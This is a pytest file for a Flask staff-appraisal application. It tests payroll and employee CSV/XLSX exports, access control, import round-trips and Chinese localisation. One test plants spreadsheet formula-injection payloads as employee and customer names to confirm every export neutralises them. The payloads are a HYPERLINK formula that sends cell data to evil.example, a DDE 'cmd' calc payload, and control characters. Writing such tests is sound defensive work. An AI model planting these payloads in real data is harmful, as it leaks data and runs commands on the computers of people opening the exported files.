"""The payroll export: every figure in it is the engine's."""

from __future__ import annotations

import csv
import io
import re

from flask import url_for
from openpyxl import load_workbook
from werkzeug.routing import IntegerConverter

from appraisal.models import Customer
from appraisal.people.imports import FIELDS
from appraisal.rules import score
from appraisal.runtime.cycles import figures
from appraisal.runtime.reviews import reviews
from appraisal.runtime.reviews.access import official_inputs
from tests.runtime.conftest import appraisal_of


def complete_ann(db, company):
    ann = appraisal_of(db, company, "ann")
    ann.targets = {"sales": 100000}
    ann.state = "manager_review"
    hr = company.viewer(db, "hr@acme.example")
    figures.set_figures(
        db,
        ann.cycle,
        [
            figures.Entry("A001", k, v)
            for k, v in {"sales": 150000, "collection": 88, "complaints": 0}.items()
        ],
        hr.user_id,
    )
    reviews.save_review(
        db, ann, hr, "hr", {"hr.award": "3", "hr.fraud_cases": "0"}, version=None, submit=False
    )
    for rater, values in (
        ("self", {"customer_care": 4, "leads_team": False}),
        ("manager", {"customer_care": 3, "teamwork": 4, "comment": "=1+2 @once"}),
    ):
        db.add(
            reviews.Review(
                organization_id=ann.organization_id,
                appraisal=ann,
                slot=rater,
                rater=rater,
                values=values,
                status="submitted",
            )
        )
    db.commit()
    return ann


def test_results_export_matches_the_engine(client, auth, db, company, launched):
    ann = complete_ann(db, company)
    expected = score(ann.definition, official_inputs(ann))
    assert expected.complete
    auth.login("hr@acme.example")

    response = client.get(f"/cycles/{launched.id}/results.csv")
    assert response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    row = next(r for r in rows if r["employee_number"] == "A001")
    assert float(row["total"]) == expected.total and row["grade"] == expected.grade
    assert float(row["coefficient"]) == expected.outputs["coefficient"]
    assert float(row["commission"]) == expected.outputs["commission"]
    assert row["complete"] == "yes"
    assert next(r for r in rows if r["employee_number"] == "P001")["complete"] == "no"

    book = load_workbook(io.BytesIO(client.get(f"/cycles/{launched.id}/results.xlsx").data))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    values = {
        r[0]: dict(zip(header, r, strict=True))
        for r in sheet.iter_rows(min_row=2, values_only=True)
    }
    assert values["A001"]["total"] == expected.total
    assert values["A001"]["commission"] == expected.outputs["commission"]


def test_only_hr_exports_results(client, auth, db, company, launched):
    auth.login("boss@acme.example")
    assert client.get(f"/cycles/{launched.id}/results.csv").status_code == 403
    auth.logout()
    auth.login("imp@acme.example")
    assert client.get(f"/cycles/{launched.id}/results.xlsx").status_code == 403


def test_employees_export_is_in_the_import_format(client, auth, db, company):
    auth.login("hr@acme.example")
    text = client.get("/people/employees/export.csv").data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == [
        "number",
        "name",
        "email",
        "department",
        "position",
        "manager_number",
        "hire_date",
        "status",
    ]
    ann = next(r for r in rows if r["number"] == "A001")
    assert ann["manager_number"] == "B001" and ann["position"] == "Sales rep"


HOSTILE = {
    "ann": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "pat": "+1",
    "quinn": "-2+3",
    "olga": "@SUM(A1:A9)",
    "oscar": "\x01Oscar\x02\x1b",
    "bo": "\tBo",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _export_urls(app, cycle_id: int) -> list[str]:
    """Every route that writes a spreadsheet (those with a csv/xlsx `fmt`), in both formats."""
    urls = []
    with app.test_request_context():
        for rule in app.url_map.iter_rules():
            if "fmt" not in rule.arguments:
                continue
            others = rule.arguments - {"fmt"}
            if any(not isinstance(rule._converters[name], IntegerConverter) for name in others):
                continue  # a chart's file by its key: the dashboards' tests check those
            ids = {name: cycle_id for name in others}
            for fmt in ("csv", "xlsx"):
                try:
                    urls.append(url_for(rule.endpoint, fmt=fmt, **ids))
                except ValueError:  # this route offers other formats (a chart: json, xlsx)
                    continue
    return sorted(urls)


def test_no_export_writes_a_live_formula_or_breaks_on_control_characters(
    app, client, auth, db, company, launched
):
    """Names that spreadsheets run as formulas reach every CSV and XLSX file as text: XLSX
    cells are typed text (shown exactly as typed), CSV fields carry OWASP's apostrophe."""
    for key, name in HOSTILE.items():
        company.people[key].name = name
    company.people["ann"].position.name = "=cmd|' /C calc'!A0"
    company.people["ann"].email = "-ann@acme.example"
    db.add(
        Customer(
            organization_id=company.org.id,
            code="C1",
            name=HOSTILE["ann"],
            address="-2+3",
            kind="Oscar",
            reps=[company.people["ann"]],
        )
    )
    db.commit()
    complete_ann(db, company)
    auth.login("hr@acme.example")
    urls = _export_urls(app, launched.id)
    # results, feedback, figures sheet, employees, customers (+ import sample), field records,
    # the notifications' delivery log, the audit log
    assert len(urls) == 20 and any("results" in u for u in urls)
    assert any(u.startswith("/audit.") for u in urls)
    assert any("notifications/log" in u for u in urls)
    assert any("customers/export" in u for u in urls)
    assert any("field/records" in u for u in urls)
    assert any("feedback" in u for u in urls)
    assert any("figures/sheet" in u for u in urls)
    for url in urls:
        period = "?from=2026-01-01&to=2026-12-31" if "/field/records" in url else ""
        response = client.get(url + period)
        assert response.status_code == 200, url
        if url.endswith(".xlsx"):
            sheet = load_workbook(io.BytesIO(response.data)).active
            cells = [cell for row in sheet.iter_rows() for cell in row]
            assert all(cell.data_type != "f" for cell in cells), url
            texts = {cell.value for cell in cells if isinstance(cell.value, str)}
        else:
            rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
            texts = {value for row in rows for value in row}
            assert not [t for t in texts if t.startswith(FORMULA_START)], url
        assert not any(ch in text for text in texts for ch in "\x00\x01\x02\x1b"), url
        if "results" in url or "employees/export" in url or "customers/export" in url:
            shown = {t.lstrip("'") for t in texts} if url.endswith(".csv") else texts
            assert HOSTILE["ann"] in shown and "-2+3" in shown and "Oscar" in shown, url

    csv_rows = list(
        csv.DictReader(
            io.StringIO(client.get(f"/cycles/{launched.id}/results.csv").data.decode("utf-8-sig"))
        )
    )
    ann = next(r for r in csv_rows if r["employee_number"] == "A001")
    assert ann["name"] == "'" + HOSTILE["ann"]
    assert float(ann["total"]) > 0  # numbers stay numbers


def test_a_negative_number_stays_a_number():
    from appraisal.tables import csv_cell, to_xlsx

    assert csv_cell(-2) == -2 and csv_cell(-2.5) == -2.5 and csv_cell("-2") == "'-2"
    sheet = load_workbook(io.BytesIO(to_xlsx(["n", "t"], [[-2, "-2"]], "t"))).active
    number, text = sheet["A2"], sheet["B2"]
    assert number.value == -2 and number.data_type == "n"
    assert text.value == "-2" and text.data_type == "s" and text.quotePrefix


def test_exports_speak_chinese_to_a_chinese_user(client, auth, db, company, launched):
    """Headers, states and yes/no in the user's language; outputs under their names."""
    auth.login("hr@acme.example")
    client.post("/language", data={"language": "zh"})
    text = client.get(f"/cycles/{launched.id}/results.csv").data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0])[:5] == ["工号", "姓名", "部门", "岗位", "状态"]
    assert {"总分", "等级", "一票否决"} <= set(rows[0])
    ann = next(r for r in rows if r["工号"] == "A001")
    assert ann["状态"] == "目标设定" and ann["完整"] == "否"
    assert not re.search(r"\b(goal_setting|employee_number|no)\b", text)
    sheet = load_workbook(io.BytesIO(client.get(f"/cycles/{launched.id}/results.xlsx").data))
    assert [c.value for c in sheet.active[1]][:2] == ["工号", "姓名"]


def test_a_chinese_employee_export_imports_back_unchanged(client, auth, db, company):
    company.people["oscar"].status = "left"
    db.commit()
    auth.login("hr@acme.example")
    client.post("/language", data={"language": "zh"})
    exported = client.get("/people/employees/export.csv").data
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
    assert list(rows[0]) == ["工号", "姓名", "邮箱", "部门", "岗位", "上级工号", "入职日期", "状态"]
    assert next(r for r in rows if r["工号"] == "O002")["状态"] == "已离职"
    upload = client.post(
        "/people/employees/import",
        data={"file": (io.BytesIO(exported), "people.csv"), "encoding": "auto"},
        content_type="multipart/form-data",
    )
    url = upload.headers["Location"]
    page = client.get(url).text
    assert '<option selected value="状态">' in page  # every header is recognised
    mapping = {f"map_{field}": header for field, header in zip(FIELDS, rows[0], strict=True)}
    checked = client.post(url, data={"action": "check", **mapping})
    assert 'data-count="unchanged">6<' in checked.text, checked.text


def test_an_english_employee_export_imports_back_unchanged(client, auth, db, company):
    company.people["oscar"].status = "left"
    db.commit()
    auth.login("hr@acme.example")
    client.post("/language", data={"language": "en"})
    exported = client.get("/people/employees/export.xlsx").data
    header = [c.value for c in load_workbook(io.BytesIO(exported)).active[1]]
    assert header == list(FIELDS)  # English keeps the keys scripts read
    upload = client.post(
        "/people/employees/import",
        data={"file": (io.BytesIO(exported), "people.xlsx"), "encoding": "auto"},
        content_type="multipart/form-data",
    )
    url = upload.headers["Location"]
    assert '<option selected value="manager_number">' in client.get(url).text
    mapping = {f"map_{field}": field for field in FIELDS}
    checked = client.post(url, data={"action": "check", **mapping})
    assert 'data-count="unchanged">6<' in checked.text, checked.text


def test_the_employee_sample_speaks_the_users_language(client, auth, company):
    auth.login("hr@acme.example")
    client.post("/language", data={"language": "zh"})
    sample = client.get("/people/employees/import/sample.csv").data.decode("utf-8-sig")
    assert sample.startswith("工号,姓名,邮箱,部门,岗位,上级工号,入职日期,状态")
